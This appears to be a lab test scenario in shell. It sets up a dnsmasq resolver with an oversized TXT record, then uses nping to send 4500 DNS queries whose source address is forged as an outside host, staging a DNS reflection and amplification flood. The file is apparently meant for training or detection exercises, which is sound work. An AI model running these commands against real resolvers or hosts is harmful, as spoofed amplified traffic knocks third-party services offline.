# Our own resolver is misused: questions in the name of an outside host, for a name with a very long text.

case_prepare() {
  plug_workstations
  plug_fixed apps 70
  start_office
  local text part
  text=$(head -c 240 /dev/zero | tr '\0' 'w')
  for part in 1 2 3 4 5 6 7 8 9 10 11 12; do text="$text,$part$(head -c 240 /dev/zero | tr '\0' 'w')"; done
  start apps resolver dnsmasq --keep-in-foreground --user=root --no-hosts --no-resolv --pid-file= --conf-file=/dev/null \
    --edns-packet-max=4096 "--txt-record=big.$LAB_DOMAIN,$text" --interface=eth0 --bind-interfaces
  sleep 1
}

# One question for big.corp.example TXT that allows answers of 4096 bytes.
QUESTION=1234010000010000000000010362696704636f7270076578616d706c6500001000010000291000000000000000

case_play() {
  switch_on
  work 21 anna 181 120
  work 23 kim 182 120
  at 40
  say "4500 questions forged as $NEWS"
  on outside timeout 60 nping -q --udp -p 53 -g 40000 --source-ip "$NEWS" --data "$QUESTION" -c 4500 --rate 200 -N "$APPS" \
    >"$LAB_STATE/log/nping.log" 2>&1
  at 120
}
